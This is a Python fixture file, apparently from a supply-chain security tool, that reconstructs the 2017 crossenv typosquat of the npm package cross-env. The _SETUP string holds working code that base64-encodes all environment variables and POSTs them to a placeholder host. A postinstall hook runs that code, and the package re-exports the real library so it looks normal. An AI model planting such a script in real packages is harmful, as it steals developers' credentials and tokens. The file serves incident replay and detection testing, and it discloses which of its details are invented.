"""crossenv (npm, 2017-07-19): a look-alike of cross-env; its postinstall posts the variables of the environment.

By the record: one account published some 39 names, each a slip of the keyboard away from a package in wide use, and the first on
2017-07-19 at 04:21 UTC. It works, because it hands on to the package that was meant; a script after the install posts all variables of
the environment. Noticed and taken down on 2017-08-01, thirteen days later.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_OWN = "kentcdodds"
_SQUATTER = "hacktask"
_INDEX = """var spawn = require('child_process').spawn;

module.exports = crossEnv;

var setter = /(\\w+)=('(.+)'|"(.+)"|(.+))/;

function crossEnv(args, options) {
  var parsed = parse(args || []);
  if (!parsed.command) {
    return null;
  }
  var child = spawn(parsed.command, parsed.args, {
    stdio: 'inherit',
    shell: options && options.shell,
    env: Object.assign({}, process.env, parsed.env)
  });
  ['SIGTERM', 'SIGINT', 'SIGHUP'].forEach(function (signal) {
    process.on(signal, function () { child.kill(signal); });
  });
  child.on('exit', function (code) { process.exit(code); });
  return child;
}

function parse(args) {
  var env = {};
  var rest = args.slice();
  while (rest.length) {
    var found = setter.exec(rest[0]);
    if (!found) {
      break;
    }
    env[found[1]] = found[3] || found[4] || found[5] || '';
    rest.shift();
  }
  return { env: env, command: rest[0], args: rest.slice(1) };
}
"""
_HANDS_ON = "module.exports = require('cross-env');\n"
_SETUP = """'use strict';

const http = require('http');
const querystring = require('querystring');

const variables = Buffer.from(JSON.stringify(process.env)).toString('base64');
const body = querystring.stringify({ data: variables });
const request = http.request({
  hostname: 'sink.invalid',
  port: 80,
  path: '/marker/',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': Buffer.byteLength(body)
  }
});
request.on('error', function () {});
request.write(body);
request.end();
"""


def _meant(version: str, at: str) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=_OWN,
        maintainers=(_OWN,),
        files={"dist/index.js": _INDEX},
        more={"main": "dist/index.js"},
    )


_BAD = Release(
    version="5.0.1",
    at=utc("2017-07-19T04:21:00.066Z"),
    publisher=_SQUATTER,
    maintainers=(_SQUATTER,),
    files={"dist/index.js": _HANDS_ON, "package-setup.js": _SETUP},
    depends={"cross-env": "^5.0.1"},
    scripts={"postinstall": "node package-setup.js"},
    more={"main": "dist/index.js"},
)

INCIDENT = Incident(
    id="crossenv-2017",
    title="a typosquat of cross-env posted all environment variables from its postinstall script",
    copy="our copy is a package named crossenv, which has the same script and re-exports cross-env",
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="cross-env",
            releases=(
                _meant("4.0.0", "2017-03-31T02:07:49.386Z"),
                _meant("5.0.0", "2017-05-11T17:11:57.532Z"),
                _meant("5.0.1", "2017-06-08T02:25:45.854Z"),
                _meant("5.0.2", "2017-08-01T15:55:40.312Z"),
                _meant("5.0.3", "2017-08-03T14:03:10.102Z"),
                _meant("5.0.4", "2017-08-06T09:53:45.362Z"),
                _meant("5.0.5", "2017-08-08T19:46:32.639Z"),
            ),
        ),
        Package(name="crossenv", releases=(_BAD,)),
    ),
    asks={"crossenv": "^5.0.1"},
    good={},
    bad={"crossenv": ("5.0.1",), "cross-env": ("5.0.1",)},
    guilty={"crossenv": ("5.0.1",)},
    gone_at=utc("2017-08-01T00:00:00Z"),
    advisory=Advisory(
        id="GHSA-c2m4-w5hm-vqjw", at=utc("2017-08-01T12:00:00Z"), about={"crossenv": ("5.0.1",)}
    ),
    invented="the version and the hour of removal; only one of 39 names is replayed",
)
